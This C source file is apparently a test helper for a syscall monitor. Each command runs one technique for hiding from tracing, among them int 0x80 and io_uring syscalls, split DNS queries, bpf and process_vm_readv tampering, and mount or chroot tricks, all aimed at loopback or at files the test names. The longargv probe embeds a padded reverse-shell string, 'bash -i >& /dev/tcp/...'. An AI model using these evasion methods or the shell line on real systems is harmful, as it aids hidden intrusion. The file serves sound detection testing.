// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * evade.c - the evasion probes of tests/it/trace_evasion.sh: each command
 * does one thing a package could do to hide from a syscall monitor, so the
 * test can assert the event it must still produce.  Harmless: files the
 * test names, loopback only (the net commands run in a network namespace
 * the test creates), signal 0, reads that fail.
 *
 * Usage: evade CMD [ARGS...]
 *   int80-open PATH        open + close through int 0x80 (i386 open = 5)
 *   int80-net PORT         socketcall socket + connect to 127.0.0.1:PORT,
 *                          a direct i386 connect, a socketcall sendto of a
 *                          DNS query for int80.example to 127.0.0.1:53
 *   uring PATH PORT        io_uring without liburing: OPENAT PATH, CONNECT
 *                          to 127.0.0.1:PORT, SEND of a DNS query for
 *                          uring.example on a UDP socket connected to :53
 *   dns                    DNS queries the kernel must see: write, writev
 *                          split over two iovecs, the second message of a
 *                          sendmmsg, TCP (length prefix), [::1]:53
 *   tamper                 bpf() map create + lookup, kill(parent, 0),
 *                          pidfd_send_signal(parent, 0), process_vm_readv
 *                          of the parent
 *   longargv               exec /bin/true with a 5,000-space argument that
 *                          ends in /dev/tcp/127.0.0.1/4444
 *   sys DIR FILE           unshare(CLONE_NEWNS), mount a tmpfs on DIR,
 *                          open_tree(DIR), chroot("/"), open FILE by handle
 *   unix PATH              connect to the unix socket at PATH
 *   fifo PATH              open the FIFO at PATH
 *   chroot-read DIR NAME   chroot(DIR), then read NAME (a credential's
 *                          path is "/NAME" once DIR is the root)
 *   bind-read SRC MNT NAME in a private mount namespace, bind SRC on MNT
 *                          and read MNT/NAME
 *   tree-read DIR NAME     open_tree(DIR) (a detached copy of the mount),
 *                          read NAME through it
 *   procvm PID             process_vm_readv of 16 bytes of PID's stack
 *                          (its address from /proc/PID/stat; the read may
 *                          fail, the attempt is the point)
 *   refusals PID           the calls --enforce refuses, one line each,
 *                          "NAME RESULT" (the return value, -errno on
 *                          failure): io_uring_setup, int 0x80 getpid, x32
 *                          getpid, bpf map create, ptrace attach of
 *                          itself, unshare(CLONE_NEWUSER), mount of a
 *                          tmpfs (on a path that does not exist), then
 *                          kill(PID, SIGTERM): PID is
 *                          the collector's host pid, which the install's
 *                          pid namespace cannot name
 * Exit 0 when every step ran (a step's own failure is part of some probes);
 * 2 on bad usage, 1 when a step could not be set up.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/net.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static int die(const char *what)
{
	fprintf(stderr, "evade: %s: %s\n", what, strerror(errno));
	return 1;
}

/* A DNS query for name (dotted) into buf; its length. */
static size_t dns_query(uint8_t *buf, const char *name)
{
	static const uint8_t hdr[12] = { 0x12, 0x34, 0x01, 0x00, 0x00, 0x01 };
	size_t n = sizeof(hdr);
	const char *p = name;

	memcpy(buf, hdr, sizeof(hdr));
	while (*p) {
		size_t l = strcspn(p, ".");

		buf[n++] = (uint8_t)l;
		memcpy(buf + n, p, l);
		n += l;
		p += l + (p[l] == '.');
	}
	buf[n++] = 0;
	memcpy(buf + n, "\x00\x01\x00\x01", 4);
	return n + 4;
}

static struct sockaddr_in lo4(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return a;
}

#if defined(__x86_64__)
/* Memory below 4 GiB: int 0x80 takes 32-bit pointers. */
static void *low(const void *src, size_t n)
{
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
		       -1, 0);

	if (p == MAP_FAILED)
		return NULL;
	memcpy(p, src, n);
	return p;
}

/* An i386 system call from this 64-bit process.  The kernel zeroes r8-r11
 * on the way back. */
static long int80(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static int cmd_int80_open(const char *path)
{
	char *p = low(path, strlen(path) + 1);
	long fd;

	if (!p)
		return die("mmap");
	fd = int80(5 /* open */, (long)(uintptr_t)p, O_RDONLY, 0);
	if (fd >= 0)
		int80(6 /* close */, fd, 0, 0);
	printf("int80 open: %ld\n", fd);
	return 0;
}

static int cmd_int80_net(int port)
{
	struct sockaddr_in a = lo4(port), d = lo4(53);
	uint8_t q[128];
	size_t qn = dns_query(q, "int80.example");
	uint32_t args[6] = { AF_INET, SOCK_STREAM, 0 };
	void *la = low(&a, sizeof(a)), *ld = low(&d, sizeof(d)), *lq = low(q, qn);
	uint32_t *largs = low(args, sizeof(args));
	long fd, r;

	if (!la || !ld || !lq || !largs)
		return die("mmap");
	fd = int80(102, SYS_SOCKET, (long)(uintptr_t)largs, 0);
	largs[0] = fd;
	largs[1] = (uint32_t)(uintptr_t)la;
	largs[2] = sizeof(a);
	r = int80(102, SYS_CONNECT, (long)(uintptr_t)largs, 0);
	printf("socketcall connect: %ld\n", r);
	close(fd);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	r = int80(362 /* connect */, fd, (long)(uintptr_t)la, sizeof(a));
	printf("i386 connect: %ld\n", r);
	close(fd);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	largs[0] = fd;
	largs[1] = (uint32_t)(uintptr_t)lq;
	largs[2] = qn;
	largs[3] = 0;
	largs[4] = (uint32_t)(uintptr_t)ld;
	largs[5] = sizeof(d);
	r = int80(102, SYS_SENDTO, (long)(uintptr_t)largs, 0);
	printf("socketcall sendto: %ld\n", r);
	close(fd);
	return 0;
}
#else
static int cmd_int80_open(const char *path)
{
	(void)path;
	fprintf(stderr, "evade: int 0x80 is x86-64 only\n");
	return 1;
}

static int cmd_int80_net(int port)
{
	return cmd_int80_open(port ? "" : "");
}
#endif

/* A minimal io_uring: one submission at a time, waited for. */
struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r)
{
	struct io_uring_params p = { 0 };
	uint8_t *sq, *cq;

	r->fd = syscall(__NR_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -1;
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
		return -1;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submit sqe and wait for its completion: its result. */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask, head;
	int res;

	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	atomic_store_explicit((_Atomic unsigned *)r->sq_tail, tail + 1, memory_order_release);
	if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	head = *r->cq_head;
	res = r->cqes[head & *r->cq_mask].res;
	atomic_store_explicit((_Atomic unsigned *)r->cq_head, head + 1, memory_order_release);
	return res;
}

static int cmd_uring(const char *path, int port)
{
	struct sockaddr_in a = lo4(port), d = lo4(53);
	struct io_uring_sqe sqe;
	struct ring r;
	uint8_t q[128];
	size_t qn = dns_query(q, "uring.example");
	int fd, res;

	if (ring_init(&r))
		return die("io_uring_setup");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (uintptr_t)path;
	sqe.open_flags = O_RDONLY;
	res = ring_run(&r, &sqe);
	printf("uring openat: %d\n", res);
	if (res >= 0)
		close(res);

	fd = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = fd;
	sqe.addr = (uintptr_t)&a;
	sqe.off = sizeof(a);
	printf("uring connect: %d\n", ring_run(&r, &sqe));
	close(fd);

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(fd, (struct sockaddr *)&d, sizeof(d)))
		return die("connect udp");
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SEND;
	sqe.fd = fd;
	sqe.addr = (uintptr_t)q;
	sqe.len = qn;
	printf("uring send: %d\n", ring_run(&r, &sqe));
	close(fd);
	return 0;
}

/* A socket of type bound to addr (a loopback server for the DNS probes). */
static int server(int family, int type, const struct sockaddr *addr, socklen_t len)
{
	int one = 1, fd = socket(family, type, 0);

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, addr, len) || (type == SOCK_STREAM && listen(fd, 4)))
		return -1;
	return fd;
}

static int cmd_dns(void)
{
	struct sockaddr_in d = lo4(53);
	struct sockaddr_in6 d6 = { .sin6_family = AF_INET6, .sin6_port = htons(53),
				   .sin6_addr = IN6ADDR_LOOPBACK_INIT };
	uint8_t q[128], q2[128], tcp[130];
	struct iovec iov[2];
	struct mmsghdr mm[2];
	size_t n;
	int fd;

	if (server(AF_INET, SOCK_DGRAM, (struct sockaddr *)&d, sizeof(d)) < 0 ||
	    server(AF_INET6, SOCK_DGRAM, (struct sockaddr *)&d6, sizeof(d6)) < 0 ||
	    server(AF_INET, SOCK_STREAM, (struct sockaddr *)&d, sizeof(d)) < 0)
		return die("loopback DNS servers");

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(fd, (struct sockaddr *)&d, sizeof(d)))
		return die("connect udp");
	n = dns_query(q, "write.example");
	printf("write: %zd\n", write(fd, q, n));
	n = dns_query(q, "writev.example");
	iov[0] = (struct iovec){ q, 12 }; /* the header alone, then the question */
	iov[1] = (struct iovec){ q + 12, n - 12 };
	printf("writev: %zd\n", writev(fd, iov, 2));
	memset(mm, 0, sizeof(mm));
	iov[0] = (struct iovec){ (void *)"not dns", 7 };
	n = dns_query(q2, "mmsg.example");
	iov[1] = (struct iovec){ q2, n };
	mm[0].msg_hdr.msg_iov = &iov[0];
	mm[0].msg_hdr.msg_iovlen = 1;
	mm[1].msg_hdr.msg_iov = &iov[1];
	mm[1].msg_hdr.msg_iovlen = 1;
	printf("sendmmsg: %d\n", sendmmsg(fd, mm, 2, 0));
	close(fd);

	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&d, sizeof(d)))
		return die("connect tcp");
	n = dns_query(tcp + 2, "tcp.example");
	tcp[0] = n >> 8;
	tcp[1] = n & 0xff;
	printf("tcp write: %zd\n", write(fd, tcp, n + 2));
	n = dns_query(q, "tcpv.example");
	tcp[0] = n >> 8;
	tcp[1] = n & 0xff;
	iov[0] = (struct iovec){ tcp, 2 }; /* as resolvers do: length, then message */
	iov[1] = (struct iovec){ q, n };
	printf("tcp writev: %zd\n", writev(fd, iov, 2));
	close(fd);

	fd = socket(AF_INET6, SOCK_DGRAM, 0);
	if (connect(fd, (struct sockaddr *)&d6, sizeof(d6)))
		return die("connect [::1]:53");
	n = dns_query(q, "v6.example");
	printf("v6 send: %zd\n", send(fd, q, n, 0));
	close(fd);
	return 0;
}

static int cmd_tamper(void)
{
	union bpf_attr attr;
	pid_t parent = getppid();
	char buf[16];
	struct iovec local = { buf, sizeof(buf) }, remote = { (void *)16, sizeof(buf) };
	uint32_t key = 0;
	uint64_t val;
	int map, pidfd;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 8;
	attr.max_entries = 1;
	map = syscall(__NR_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	if (map < 0)
		return die("bpf map create");
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = map;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)&val;
	printf("bpf lookup: %ld\n", syscall(__NR_bpf, BPF_MAP_LOOKUP_ELEM, &attr, sizeof(attr)));
	printf("kill: %d\n", kill(parent, 0));
	pidfd = syscall(SYS_pidfd_open, parent, 0);
	printf("pidfd_send_signal: %ld\n", syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0));
	printf("process_vm_readv: %zd\n", process_vm_readv(parent, &local, 1, &remote, 1, 0));
	return 0;
}

static int cmd_longargv(void)
{
	static char arg[6000];
	char *argv[] = { "true", arg, NULL };

	memset(arg, ' ', 5000);
	strcpy(arg + 5000, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
	execv("/bin/true", argv);
	return die("exec /bin/true");
}

static int cmd_sys(const char *dir, const char *file)
{
	struct {
		struct file_handle h;
		unsigned char bytes[128];
	} fh;
	int mount_id, mfd, fd, tree;

	if (unshare(CLONE_NEWNS))
		return die("unshare");
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		return die("mount private");
	printf("mount tmpfs: %d\n", mount("evade-tmpfs", dir, "tmpfs", 0, NULL));
	tree = syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE);
	printf("open_tree: %d\n", tree);
	printf("chroot: %d\n", chroot("/"));
	fh.h.handle_bytes = sizeof(fh.bytes);
	if (name_to_handle_at(AT_FDCWD, file, &fh.h, &mount_id, 0))
		return die("name_to_handle_at");
	mfd = open("/", O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(mfd, &fh.h, O_RDONLY);
	printf("open_by_handle_at: %d\n", fd);
	return 0;
}

static int cmd_unix(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)))
		return die("connect unix");
	close(fd);
	return 0;
}

static int cmd_fifo(const char *path)
{
	int fd = open(path, O_RDWR); /* no reader needed, no blocking */

	if (fd < 0)
		return die("open fifo");
	close(fd);
	return 0;
}

/* Reads the file open at fd to its end; 0, or 1 when it could not. */
static int slurp(int fd, const char *what)
{
	char buf[256];
	ssize_t n, total = 0;

	if (fd < 0)
		return die(what);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		total += n;
	close(fd);
	printf("%s: %zd bytes\n", what, total);
	return 0;
}

static int cmd_chroot_read(const char *dir, const char *name)
{
	if (chroot(dir) || chdir("/"))
		return die("chroot");
	return slurp(open(name, O_RDONLY), "chroot read");
}

static int cmd_bind_read(const char *src, const char *mnt, const char *name)
{
	char path[4096];

	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		return die("private mount namespace");
	if (mount(src, mnt, NULL, MS_BIND, NULL))
		return die("bind mount");
	snprintf(path, sizeof(path), "%s/%s", mnt, name);
	return slurp(open(path, O_RDONLY), "bind read");
}

static int cmd_tree_read(const char *dir, const char *name)
{
	int tree = syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE | O_CLOEXEC);

	if (tree < 0)
		return die("open_tree");
	return slurp(openat(tree, name, O_RDONLY), "open_tree read");
}

static int cmd_procvm(int pid)
{
	char stat[4096], buf[16], *p;
	unsigned long long start_stack = 0;
	FILE *f;
	int field = 0;

	snprintf(stat, sizeof(stat), "/proc/%d/stat", pid);
	f = fopen(stat, "r");
	if (!f || !fgets(stat, sizeof(stat), f))
		return die("/proc/PID/stat");
	fclose(f);
	/* field 28 is startstack; the comm (2) may hold spaces: after ')' */
	p = strrchr(stat, ')');
	for (field = 2; p && field < 28; field++)
		p = strchr(p + 1, ' ');
	if (p)
		start_stack = strtoull(p + 1, NULL, 10);
	{
		struct iovec local = { buf, sizeof(buf) };
		struct iovec remote = { (void *)(uintptr_t)(start_stack - sizeof(buf)), sizeof(buf) };

		printf("process_vm_readv: %zd\n", process_vm_readv(pid, &local, 1, &remote, 1, 0));
	}
	return 0;
}

static long res(long r)
{
	return r < 0 ? -errno : r;
}

static int cmd_refusals(int pid)
{
	struct io_uring_params p = { 0 };
	union bpf_attr attr = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4,
				.max_entries = 1 };

	printf("io_uring_setup %ld\n", res(syscall(__NR_io_uring_setup, 4, &p)));
#if defined(__x86_64__)
	printf("int80_getpid %ld\n", int80(20 /* i386 getpid */, 0, 0, 0));
	printf("x32_getpid %ld\n", res(syscall(0x40000000 | __NR_getpid)));
#endif
	printf("bpf %ld\n", res(syscall(__NR_bpf, BPF_MAP_CREATE, &attr, sizeof(attr))));
	/* itself: harmless when not refused (EPERM) */
	printf("ptrace %ld\n", res(syscall(__NR_ptrace, 16 /* PTRACE_ATTACH */, getpid(), 0, 0)));
	printf("unshare %ld\n", res(unshare(CLONE_NEWUSER)));
	printf("mount %ld\n", res(mount("none", "/nonexistent-pkgtrace-evade", "tmpfs", 0, NULL)));
	printf("kill %ld\n", res(kill(pid, SIGTERM)));
	return 0;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(cmd, "int80-open") && argc == 3)
		return cmd_int80_open(argv[2]);
	if (!strcmp(cmd, "int80-net") && argc == 3)
		return cmd_int80_net(atoi(argv[2]));
	if (!strcmp(cmd, "uring") && argc == 4)
		return cmd_uring(argv[2], atoi(argv[3]));
	if (!strcmp(cmd, "dns") && argc == 2)
		return cmd_dns();
	if (!strcmp(cmd, "tamper") && argc == 2)
		return cmd_tamper();
	if (!strcmp(cmd, "longargv") && argc == 2)
		return cmd_longargv();
	if (!strcmp(cmd, "sys") && argc == 4)
		return cmd_sys(argv[2], argv[3]);
	if (!strcmp(cmd, "unix") && argc == 3)
		return cmd_unix(argv[2]);
	if (!strcmp(cmd, "fifo") && argc == 3)
		return cmd_fifo(argv[2]);
	if (!strcmp(cmd, "chroot-read") && argc == 4)
		return cmd_chroot_read(argv[2], argv[3]);
	if (!strcmp(cmd, "bind-read") && argc == 5)
		return cmd_bind_read(argv[2], argv[3], argv[4]);
	if (!strcmp(cmd, "tree-read") && argc == 4)
		return cmd_tree_read(argv[2], argv[3]);
	if (!strcmp(cmd, "procvm") && argc == 3)
		return cmd_procvm(atoi(argv[2]));
	if (!strcmp(cmd, "refusals") && argc == 3)
		return cmd_refusals(atoi(argv[2]));
	fprintf(stderr, "usage: evade CMD [ARGS...] (see the header of tests/helpers/evade.c)\n");
	return 2;
}
